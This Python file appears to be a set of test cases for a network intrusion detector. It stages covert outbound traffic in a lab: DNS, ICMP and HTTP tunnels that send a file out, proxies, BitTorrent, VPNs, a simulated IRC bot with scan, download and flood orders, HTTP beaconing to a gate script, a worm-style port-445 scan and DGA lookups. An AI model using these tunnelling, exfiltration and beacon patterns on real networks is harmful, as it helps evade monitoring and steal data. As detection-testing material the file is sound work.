"""Inside hosts that get out another way: tunnels, proxies, peer-to-peer, bots; and a worm's search. Taken at the inside router port."""
import time

import services
from cases import case

LATER = "Later, with the detector"


def outside_files(lab):
    lab.write("files/index.html", "<html><body>" + "<p>outside</p>" * 40 + "</body></html>\n")
    lab.write("files/data.bin", bytes((i * 31) % 256 for i in range(6000)))


@case("dns_tunnel_iodine", ["iodine", "curl", "ncat"], [f"{LATER} `dns_tunnel`: one alert for 10.30.0.30 (hundreds of different long names under one domain in half a minute).", "Signatures for iodine (NULL queries, its handshake names) may fire; policy violation.", "No `port_scan`, no `syn_flood`."])
def dns_tunnel_iodine(lab):
    """A DNS tunnel with iodine: an inside host reaches a web server behind the tunnel and sends a file of 16 kB out, through queries for names below t.tunnel.example."""
    lab.edge(inside=True)
    outside_files(lab)
    lab.spawn("sk-c", "iodined -f -c -P coffee 172.16.9.1/24 t.tunnel.example", wait_port=53, udp=True, wait=0.5)
    lab.spawn("sk-c", f"/usr/bin/python3 -m http.server 8000 --bind 172.16.9.1 -d {lab.tmp}/files", wait_port=8000)
    lab.spawn("sk-c", "ncat -l -k --recv-only 172.16.9.1 9000", wait_port=9000)
    lab.write("secret.bin", bytes((i * i * 31) % 253 for i in range(16000)))
    lab.capture(dev="lan")
    client = lab.spawn("sk-i", "iodine -f -r -m 200 -P coffee 198.51.100.10 t.tunnel.example")
    time.sleep(9)
    lab.run("sk-i", "ping -n -c 3 172.16.9.1; curl -s -m 12 -o /dev/null http://172.16.9.1:8000/index.html; curl -s -m 12 -o /dev/null http://172.16.9.1:8000/data.bin", timeout=40)
    lab.run("sk-i", f"ncat --send-only -w 10 172.16.9.1 9000 < {lab.tmp}/secret.bin; sleep 3", timeout=40)
    lab.stop(client)


@case("dns_tunnel_nearmiss", ["dnsmasq", "bind9-dnsutils"], ["Nothing: long names and many of them are ordinary for content networks, block lists and service discovery."])
def dns_tunnel_nearmiss(lab):
    """The near miss of the DNS tunnel: an inside host asks for long host names of a content network, a mail host asks a block list about 60 addresses, DKIM and DMARC records."""
    lab.edge(inside=True)
    extra = "\n".join(f"txt-record=s{i}._domainkey.shop.example,\"v=DKIM1; k=rsa; p={'MIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQKBgQ' * 4}\"" for i in range(3))
    conf = lab.write("dnsmasq.conf", services.ZONE + extra + "\naddress=/cdn.example/10.20.0.80\naddress=/dnsbl.example/127.0.0.2\n")
    lab.spawn("sk-s", f"dnsmasq -k -C {conf}", wait_port=53, udp=True)
    lab.capture(dev="lan")
    dig = "dig +time=2 +tries=1 +short @10.20.0.53"
    lab.run("sk-i", f"for i in $(seq 60); do {dig} A $((i * 3 % 250)).113.0.203.dnsbl.example; done", timeout=40)
    lab.run("sk-i", f"for n in e6858-a1 scontent-nrt1-1-xx-cdn d3c33hcgiwev3-assets-eu-west-1 r4---sn-3pm7dnez-video; do {dig} A $n.edge.cdn.example; {dig} AAAA $n.edge.cdn.example; done")
    lab.run("sk-i", f"for i in 0 1 2; do {dig} TXT s$i._domainkey.shop.example; done; {dig} TXT _dmarc.shop.example")


@case("icmp_tunnel", ["ptunnel-ng", "ncat"], [f"{LATER} `icmp_tunnel`: one alert for 10.30.0.30 (echo requests and replies whose data differ, both ways).", "No `port_scan`, no `icmp_flood`."])
def icmp_tunnel(lab):
    """An ICMP tunnel with ptunnel-ng: an inside host sends 5 kB to an echo service behind the tunnel's end and gets them back, inside echo requests and replies."""
    lab.edge(inside=True)
    outside_files(lab)
    lab.quiet("sk-c", "sysctl -qw net.ipv4.icmp_echo_ignore_all=1")  # the tunnel answers, not the kernel
    lab.spawn("sk-c", "ncat -l -k 127.0.0.1 8000 -c cat", wait_port=8000)
    lab.spawn("sk-c", "ptunnel-ng -r127.0.0.1 -R8000", wait=1)
    lab.spawn("sk-i", "ptunnel-ng -p198.51.100.10 -l2222 -r127.0.0.1 -R8000", wait_port=2222, wait=0.5)
    lab.capture(dev="lan")
    lab.run("sk-i", f"(for i in 1 2 3 4 5; do head -c 1000 {lab.tmp}/files/data.bin; sleep 0.7; done; sleep 1) | ncat 127.0.0.1 2222 | wc -c", timeout=40)


@case("p2p_bittorrent", ["aria2", "transmission-cli", "opentracker"], ["Signatures for BitTorrent fire: the announce to the tracker, the handshake between peers, the DHT. Policy violation.", f"{LATER} `p2p`: one alert for 10.30.0.30.", "No `port_scan`."])
def p2p_bittorrent(lab):
    """BitTorrent: an inside host (aria2) fetches a file of 60 kB from a peer outside, found through an own tracker (opentracker), with DHT between the two."""
    lab.edge(inside=True)
    t = lab.tmp
    lab.write("seed/holiday.bin", bytes((i * i) % 251 for i in range(60000)))
    lab.quiet("sk-c", f"transmission-create -s 16 -o {t}/holiday.torrent -t http://198.51.100.10:6969/announce {t}/seed/holiday.bin")
    lab.quiet("sk-c", f"mkdir -p {t}/got; chmod 777 {t}/got")
    lab.spawn("sk-c", f"opentracker -i 198.51.100.10 -p 6969 -P 6969 -d {t} -u nobody", wait_port=6969, wait=0.5)
    aria = "aria2c --no-conf --quiet --check-integrity=false --enable-peer-exchange=true --bt-enable-lpd=false --enable-dht=true"
    lab.spawn("sk-c", f"{aria} --listen-port=51413 --dht-listen-port=51413 --dht-file-path={t}/seed.dht -d {t}/seed --seed-ratio=0.0 --bt-seed-unverified --bt-external-ip=198.51.100.10 {t}/holiday.torrent", wait=3)
    lab.capture(dev="lan")
    lab.run("sk-i", f"{aria} --listen-port=6881 --dht-listen-port=6881 --dht-entry-point=198.51.100.10:51413 --dht-file-path={t}/leech.dht -d {t}/got --seed-time=0 --bt-stop-timeout=20 {t}/holiday.torrent", timeout=40)


BOT = """
import socket, sys, time
# argv: role, server. The bot joins and obeys in words only; the master gives orders.
role, server = sys.argv[1], sys.argv[2]
s = socket.create_connection((server, 6667), 5); s.settimeout(0.3)
def say(line): s.sendall(line.encode() + b"\\r\\n"); time.sleep(0.05)
buffer = b""
def read(seconds):
    global buffer
    end, lines = time.monotonic() + seconds, []
    while time.monotonic() < end:
        try: data = s.recv(4096)
        except socket.timeout: continue
        if not data: break
        buffer += data
        *whole, buffer = buffer.split(b"\\r\\n")
        for line in whole:
            line = line.decode("latin-1"); lines.append(line)
            if line.startswith("PING"): say("PONG" + line[4:])
            if role == "bot" and "PRIVMSG #" in line: answer(line.split(" :", 1)[1])
    return lines
def answer(order):
    if order.startswith(".login"): say("PRIVMSG #w0rm :[MAIN]: Password accepted.")
    elif order.startswith(".sysinfo"): say("PRIVMSG #w0rm :[SYSINFO]: [CPU]: 2400MHz. [RAM]: 4,096MB. [OS]: Windows 7 [Uptime]: 3d 4h")
    elif order.startswith(".scan"): say("PRIVMSG #w0rm :[SCAN]: Random Port Scan started on 10.30.x.x:445 with a delay of 5 seconds for 0 minutes using 75 threads.")
    elif order.startswith(".download"): say("PRIVMSG #w0rm :[DOWNLOAD]: Downloading URL: http://198.51.100.10/update.exe to: c:\\\\windows\\\\update.exe.")
    elif order.startswith((".ddos", "!syn", "!udp")): say("PRIVMSG #w0rm :[DDoS]: Flooding: (203.0.113.9:80) for 60 seconds.")
if role == "bot":
    say("NICK [DEU|XP]48213"); say("USER zvqkw 0 0 :[DEU|XP]48213"); read(1)
    say("JOIN #w0rm k3y"); read(7)
elif role == "master":
    say("NICK herder"); say("USER herder 0 0 :herder"); read(1); say("JOIN #w0rm k3y"); read(1)
    for order in (".login secret", ".sysinfo", ".scan asc 75 5 0 -r", ".download http://198.51.100.10/update.exe c:\\\\windows\\\\update.exe 1", ".ddos.syn 203.0.113.9 80 60", "!udp 203.0.113.9 53 60"):
        say("PRIVMSG #w0rm :" + order); read(0.6)
    say("QUIT :bye"); read(0.5)
else:
    say("NICK mika"); say("USER mika 0 0 :Mika"); read(1); say("JOIN #kettles"); read(0.5)
    for line in ("hello everyone", "did anyone scan the new catalogue? I want to download it", "the login page works again", "my flood of mails is over", "bye!"):
        say("PRIVMSG #kettles :" + line); read(0.6)
    say("PART #kettles :off to tea"); say("QUIT :bye"); read(0.5)
s.close()
"""


def ircd(lab):
    conf = lab.write("ngircd.conf", f"[Global]\nName = irc.chat.example\nInfo = chat\nListen = 198.51.100.10\nPorts = 6667\nServerUID = 39\nServerGID = 39\nMotdPhrase = hello\n[Limits]\nMaxConnectionsIP = 0\nMaxNickLength = 30\n[Options]\nIdent = no\nPAM = no\nDNS = no\nSyslogFacility = local1\n")
    lab.spawn("sk-c", f"ngircd -n -f {conf}", wait_port=6667)
    return lab.write("bot.py", BOT)


@case("irc_bot", ["ngircd"], ["Signatures for orders and answers of an IRC bot fire (scan, download, flood orders; the bot's name with country and system), also for IRC from inside.", "The orders are answered: the inside host 10.30.0.30 is a bot. Internal origin: ORANGE or RED.", "No `port_scan`: the bot only speaks of it."])
def irc_bot(lab):
    """An inside host joins an IRC channel as a bot and answers the orders its master gives there: system report, scan, download, flood. Nothing is carried out; the words are those of well-known bot families."""
    lab.edge(inside=True)
    bot = ircd(lab)
    lab.capture(dev="lan")
    child = lab.spawn("sk-i", f"/usr/bin/python3 {bot} bot 198.51.100.10", wait=1.5)
    lab.run("sk-c", f"/usr/bin/python3 {bot} master 198.51.100.10")
    child.wait(timeout=10)


@case("irc_chat", ["ngircd"], ["At most a notice that IRC is used (policy); nothing about bots: the words scan, download, login and flood in a chat are not orders."])
def irc_chat(lab):
    """The near miss of the bot: a person chats on IRC from inside."""
    lab.edge(inside=True)
    bot = ircd(lab)
    lab.capture(dev="lan")
    lab.run("sk-i", f"/usr/bin/python3 {bot} person 198.51.100.10")


@case("proxy_connect", ["tinyproxy", "microsocks", "openssl", "curl"], ["Signatures for CONNECT to an outside proxy, and for SOCKS 4 and 5, fire: policy violation.", "No `port_scan`."])
def proxy_connect(lab):
    """An inside host uses proxies outside: HTTP CONNECT (tinyproxy) to a TLS server and to port 22, a plain request through the proxy, SOCKS 5 with and without password, and SOCKS 4 (microsocks refuses it)."""
    lab.edge(inside=True)
    outside_files(lab)
    t = lab.tmp
    lab.quiet("sk-c", f"cd {t} && openssl req -x509 -newkey rsa:2048 -nodes -keyout p.key -out p.pem -days 30 -subj /CN=hidden.example")
    lab.spawn("sk-c", f"openssl s_server -quiet -www -accept 443 -cert {t}/p.pem -key {t}/p.key", wait_port=443)
    lab.spawn("sk-c", f"/usr/bin/python3 -m http.server 8000 --bind 198.51.100.10 -d {t}/files", wait_port=8000)
    conf = lab.write("tinyproxy.conf", f"Port 8888\nListen 198.51.100.10\nTimeout 30\nMaxClients 20\nAllow 10.30.0.0/24\nDisableViaHeader No\nConnectPort 443\nLogFile \"{t}/tinyproxy.log\"\n")
    lab.spawn("sk-c", f"tinyproxy -d -c {conf}", wait_port=8888)
    lab.spawn("sk-c", "microsocks -i 198.51.100.10 -p 1080", wait_port=1080)
    lab.spawn("sk-c", "microsocks -i 198.51.100.10 -p 1081 -u alice -P Spring-2026", wait_port=1081)
    lab.capture(dev="lan")
    curl = "curl -s -m 5 -k -o /dev/null"
    lab.run("sk-i", f"{curl} -x http://198.51.100.10:8888 https://198.51.100.10/")
    lab.run("sk-i", f"{curl} -x http://198.51.100.10:8888 http://198.51.100.10:8000/")
    lab.run("sk-i", f"{curl} -p -x http://198.51.100.10:8888 http://198.51.100.10:22/")
    lab.run("sk-i", f"{curl} --socks5-hostname 198.51.100.10:1080 http://198.51.100.10:8000/")
    lab.run("sk-i", f"{curl} --socks5 198.51.100.10:1080 https://198.51.100.10/")
    lab.run("sk-i", f"{curl} --socks5 alice:Spring-2026@198.51.100.10:1081 http://198.51.100.10:8000/")
    lab.run("sk-i", f"{curl} --socks4 198.51.100.10:1080 http://198.51.100.10:8000/")
    lab.run("sk-i", f"{curl} --socks4a 198.51.100.10:1080 http://hidden.example:8000/")


@case("ssh_on_443", ["openssh-server", "sshpass"], ["SSH is recognised on port 443; a signature for a protocol on the wrong port may fire (policy).", f"{LATER} `wrong_port`: one alert for 10.30.0.30."])
def ssh_on_443(lab):
    """An inside host reaches a shell outside by SSH on port 443, and a page through it (ssh -D style forwarding with -W)."""
    lab.edge(inside=True)
    outside_files(lab)
    t = lab.tmp
    # The outside host has the accounts of the server here.
    lab.quiet("sk-c", f"ssh-keygen -q -t ed25519 -N '' -C key -f {t}/host_ed25519; ssh-keygen -q -t rsa -b 3072 -N '' -C key -f {t}/host_rsa; mkdir -p /run/sshd; chown 2001:2001 {t}/home")
    lab.spawn("sk-c", f"/usr/bin/python3 -m http.server 8000 --bind 127.0.0.1 -d {t}/files", wait_port=8000)
    lab.spawn("sk-c", f"/usr/sbin/sshd -D -e -f {lab.write('sshd.conf', services.SSHD.format(tmp=t).replace('Port 22', 'Port 443').replace('10.20.0.80', '198.51.100.10'))}", wait_port=443)
    lab.capture(dev="lan")
    lab.run("sk-i", f"sshpass -p Spring-2026 ssh {services.SSH} -p 443 alice@198.51.100.10 'id; ls -la'")
    lab.run("sk-i", f"(printf 'GET /index.html HTTP/1.0\\r\\n\\r\\n'; sleep 1) | sshpass -p Spring-2026 ssh {services.SSH} -p 443 -W 127.0.0.1:8000 alice@198.51.100.10", timeout=10)


BEACON = """
import random, time, urllib.request
random.seed(7)
for i in range(24):
    request = urllib.request.Request("http://198.51.100.10:8080/gate.php?id=48213&n=%d" % i, headers={"User-Agent": "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)", "Accept": "*/*"})
    try: urllib.request.urlopen(request, timeout=3).read()
    except Exception: pass
    time.sleep(2 * random.uniform(0.85, 1.15))
"""


@case("beacon_http", [], [f"{LATER} `beacon`: 24 calls of one shape with a period of 2 s ± 15 % from 10.30.0.30 to one outside server.", "A signature for a gate of a bot may fire."])
def beacon_http(lab):
    """A bot's calls home: an inside host asks one outside server the same small question every two seconds, with 15 % of chance in the interval (a short picture of what takes hours)."""
    lab.edge(inside=True)
    lab.write("files/gate.php", "OK\n")
    lab.spawn("sk-c", f"/usr/bin/python3 -m http.server 8080 --bind 198.51.100.10 -d {lab.tmp}/files", wait_port=8080)
    lab.capture(dev="lan")
    lab.run("sk-i", f"/usr/bin/python3 {lab.write('beacon.py', BEACON)}", timeout=90)


@case("worm_scan", ["nmap", "ncat"], ["`port_scan` once, from the inside host 10.30.0.30: one port on 80 addresses, nearly all without answer. Internal origin: higher than the same from outside."])
def worm_scan(lab):
    """An infected inside host looks for file servers: port 445 of 80 addresses of another segment, in random order (nmap -sT, as a worm would: whole connections). Two hosts exist; one has the port open."""
    lab.edge(inside=True)
    for i in range(100, 180):
        lab._ip(f"-n sk-r neigh replace 10.20.0.{i} lladdr 02:00:00:00:05:{i:02x} dev dmz nud permanent")
    lab.address("sk-s", "eth0", "10.20.0.110/24", "10.20.0.120/24")
    for i in (110, 120):
        lab._ip(f"-n sk-r neigh del 10.20.0.{i} dev dmz")
    lab.spawn("sk-s", "ncat -l -k 10.20.0.110 445", wait_port=445)
    lab.capture(dev="lan")
    lab.run("sk-i", "nmap -n -Pn -sT -T4 --max-retries 0 --max-rate 20 -p 445 10.20.0.100-179", timeout=60)


@case("download_executable", ["curl", "wget"], ["Signatures for an executable or a script fetched by an inside host over plain HTTP may fire (suspicious): the file type is told by content, also where the name says otherwise.", "No `port_scan`."])
def download_executable(lab):
    """An inside host fetches a small Windows program by its name, the same under the name of a picture, a Linux program, a shell script by wget, a zip and a PDF. The programs do nothing."""
    lab.edge(inside=True)
    stub = b"MZ" + bytes(58) + (128).to_bytes(4, "little") + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$".ljust(64, b"\0") + b"PE\0\0L\x01\x01\0" + bytes(1000)
    lab.write("files/setup.exe", stub)
    lab.write("files/cat.jpg", stub)
    lab.write("files/mips", b"\x7fELF\x01\x02\x01" + bytes(9) + b"\0\x02\0\x08\0\0\0\x01" + bytes(600))
    lab.write("files/install.sh", "#!/bin/sh\necho nothing\n")
    lab.write("files/list.zip", b"PK\x03\x04\x14\0\0\0\0\0" + bytes(20) + b"PK\x05\x06" + bytes(18))
    lab.write("files/prices.pdf", b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
    lab.spawn("sk-c", f"/usr/bin/python3 -m http.server 80 --bind 198.51.100.10 -d {lab.tmp}/files", wait_port=80)
    lab.capture(dev="lan")
    for name in ("setup.exe", "cat.jpg", "mips", "list.zip", "prices.pdf"):
        lab.run("sk-i", f"curl -s -m 5 -o /dev/null http://198.51.100.10/{name}")
    lab.run("sk-i", "wget -q -T 5 -O /dev/null http://198.51.100.10/install.sh")
    lab.run("sk-i", "curl -s -m 5 -o /dev/null -A 'Microsoft BITS/7.8' http://198.51.100.10/setup.exe; curl -s -m 5 -o /dev/null -A 'Mozilla/5.0 (Windows NT; Windows NT 10.0; ja-JP) WindowsPowerShell/5.1.19041.1' http://198.51.100.10/setup.exe")


@case("vpn_openvpn", ["openvpn", "openssl"], [f"{LATER} `vpn`: one alert for 10.30.0.30 (OpenVPN over UDP 1194, and over TCP 443).", "Signatures for OpenVPN's handshake may fire (policy)."])
def vpn_openvpn(lab):
    """An inside host opens OpenVPN to a server outside, over UDP 1194 and then over TCP 443, and pings through it."""
    lab.edge(inside=True)
    t = lab.tmp
    lab.quiet("sk-c", f"cd {t} && openssl req -x509 -newkey rsa:2048 -nodes -keyout ca.key -out ca.pem -days 30 -subj /CN=vpn && openssl req -x509 -newkey rsa:2048 -nodes -keyout user.key -out user.pem -days 30 -subj /CN=user")
    common = f"--dev tun --data-ciphers AES-256-GCM --verb 1 --nobind" 
    for protocol, port, net in (("udp", 1194, "172.16.21"), ("tcp", 443, "172.16.22")):
        lab.spawn("sk-c", f"openvpn --dev tun --proto {protocol}{'-server' if protocol == 'tcp' else ''} --local 198.51.100.10 --port {port} --tls-server --dh none --ca {t}/user.pem --cert {t}/ca.pem --key {t}/ca.key --ifconfig {net}.1 {net}.2 --verb 1", wait=1)
    lab.capture(dev="lan")
    for protocol, port, net in (("udp", 1194, "172.16.21"), ("tcp", 443, "172.16.22")):
        child = lab.spawn("sk-i", f"openvpn {common} --proto {protocol}{'-client' if protocol == 'tcp' else ''} --remote 198.51.100.10 {port} --tls-client --ca {t}/ca.pem --cert {t}/user.pem --key {t}/user.key --ifconfig {net}.2 {net}.1", wait=4)
        lab.run("sk-i", f"ping -n -c 3 {net}.1")
        lab.stop(child)


@case("vpn_wireguard", ["wireguard-go", "wireguard-tools"], [f"{LATER} `vpn`: one alert for 10.30.0.30 (WireGuard over UDP 51820).", "Signatures for WireGuard's handshake may fire (policy)."])
def vpn_wireguard(lab):
    """An inside host opens WireGuard to a peer outside and pings through it (wireguard-go)."""
    lab.edge(inside=True)
    t = lab.tmp
    lab.quiet("sk-c", f"cd {t} && wg genkey > a.key && wg pubkey < a.key > a.pub && wg genkey > b.key && wg pubkey < b.key > b.pub; mkdir -p /var/run/wireguard")
    lab.spawn("sk-c", "env WG_PROCESS_FOREGROUND=1 wireguard-go -f sekisho-wg0", wait=0.7)
    lab.spawn("sk-i", "env WG_PROCESS_FOREGROUND=1 wireguard-go -f sekisho-wg1", wait=0.7)
    lab.quiet("sk-c", f"wg set sekisho-wg0 listen-port 51820 private-key {t}/a.key peer $(cat {t}/b.pub) allowed-ips 172.16.23.2/32; ip addr add 172.16.23.1/24 dev sekisho-wg0; ip link set sekisho-wg0 up")
    lab.quiet("sk-i", f"wg set sekisho-wg1 private-key {t}/b.key peer $(cat {t}/a.pub) allowed-ips 172.16.23.1/32 endpoint 198.51.100.10:51820 persistent-keepalive 2; ip addr add 172.16.23.2/24 dev sekisho-wg1")
    lab.capture(dev="lan")
    lab.run("sk-i", "ip link set sekisho-wg1 up; ping -n -c 4 172.16.23.1; sleep 4")


@case("http_tunnel", ["httptunnel", "ncat"], [f"{LATER} `wrong_port`: one alert for 10.30.0.30 (a byte stream inside long POST and GET requests).", "Signatures for httptunnel's requests (`/index.html?crap=`) may fire (policy)."])
def http_tunnel(lab):
    """httptunnel: an inside host carries a session of an echo service inside HTTP requests (htc, hts)."""
    lab.edge(inside=True)
    lab.spawn("sk-c", "ncat -l -k 127.0.0.1 8000 -c cat", wait_port=8000)
    lab.spawn("sk-c", "hts -F 127.0.0.1:8000 198.51.100.10:8080", wait=0.5)
    lab.spawn("sk-i", "htc -F 2222 198.51.100.10:8080", wait=0.5)
    lab.capture(dev="lan")
    lab.run("sk-i", "(for i in 1 2 3 4; do echo \"line $i of a hidden session\"; sleep 0.5; done; sleep 1) | ncat 127.0.0.1 2222", timeout=15)


@case("dns_tunnel_dns2tcp", ["dns2tcp", "ncat"], [f"{LATER} `dns_tunnel`: one alert for 10.30.0.30.", "No `port_scan`."])
def dns_tunnel_dns2tcp(lab):
    """A second DNS tunnel (dns2tcp, TXT records): an echo session of 6 kB each way below d.tunnel.example."""
    lab.edge(inside=True)
    conf = lab.write("dns2tcpd.conf", f"listen = 198.51.100.10\nport = 53\nuser = nobody\nchroot = {lab.tmp}\ndomain = d.tunnel.example\nkey = coffee\nresources = echo:127.0.0.1:8000\n")
    lab.write("secret.bin", bytes((i * i * 31) % 253 for i in range(6000)))
    lab.spawn("sk-c", "ncat -l -k 127.0.0.1 8000 -c cat", wait_port=8000)
    lab.spawn("sk-c", f"dns2tcpd -F -f {conf}", wait_port=53, udp=True)
    lab.capture(dev="lan")
    lab.spawn("sk-i", "dns2tcpc -z d.tunnel.example -k coffee -r echo -l 2222 198.51.100.10", wait_port=2222, wait=0.5)
    lab.run("sk-i", f"(cat {lab.tmp}/secret.bin; sleep 4) | ncat 127.0.0.1 2222 | wc -c", timeout=20)


NAMES = ("xkqjvhtrwpz", "qwrtplkmnbv", "zxcvbtrplkh", "mnbvcxlkjhg", "hgfdsapqwrt", "trplkjhgfzx", "vbnmqwrtplk", "kjhgfdxcvbn",
         "plkmnbvcxzd", "wrtpsdfghjk", "bnmzxcvlkjh", "dfghjklzxcv", "rtpqwsdfghb", "cvbnmtrplkj", "jhgfdrtplkm", "gfdsplkmnbv")


def names_asked(lab, questions, call):
    """Questions of the inside host to the house's resolver, which knows one invented name: the one that is called."""
    lab.edge(inside=True)
    conf = lab.write("dns.conf", "no-daemon\nno-resolv\nno-hosts\nuser=root\nlisten-address=10.20.0.53\nbind-interfaces\nlocal=/net/\nlocal=/example/\n"
                     "host-record=qxkcdvbnzwt.net,198.51.100.10\nhost-record=www.shop.example,10.20.0.80\n")
    lab.spawn("sk-s", f"dnsmasq -k -C {conf}", wait_port=53, udp=True)
    lab.spawn("sk-c", "/usr/bin/python3 -m http.server 443 --bind 198.51.100.10 -d /proc/self/task", wait_port=443)
    lab.capture(dev="lan")
    asked = " ".join(questions)
    lab.run("sk-i", f"for n in {asked}; do dig +noedns +time=2 +tries=1 +short @10.20.0.53 $n; sleep 0.2; done", timeout=60)
    if call:
        lab.run("sk-i", "curl -s -m 3 -o /dev/null http://198.51.100.10:443/")


@case("dga_storm", ["dnsmasq-base", "bind9-dnsutils", "curl"], ["`dga` once: sixteen invented names below net do not exist, and are named; the seventeenth resolves and is called, which makes it likely that it worked: ORANGE."])
def dga_storm(lab):
    """A bot looks for its controller: invented names one after the other, until one of them exists."""
    names_asked(lab, [f"{name}.net" for name in NAMES] + ["qxkcdvbnzwt.net"], True)


@case("dga_nearmiss", ["dnsmasq-base", "bind9-dnsutils", "curl"], ["Nothing: one application whose server is gone, five typing errors, and a name that looks invented but exists."])
def dga_nearmiss(lab):
    """The near miss of invented names: dead names of one domain, and a few mistakes."""
    names_asked(lab, [f"node{n}.old-app.example" for n in range(16)] + [f"{name}.net" for name in NAMES[:5]] + ["qxkcdvbnzwt.net", "www.shop.example"], True)
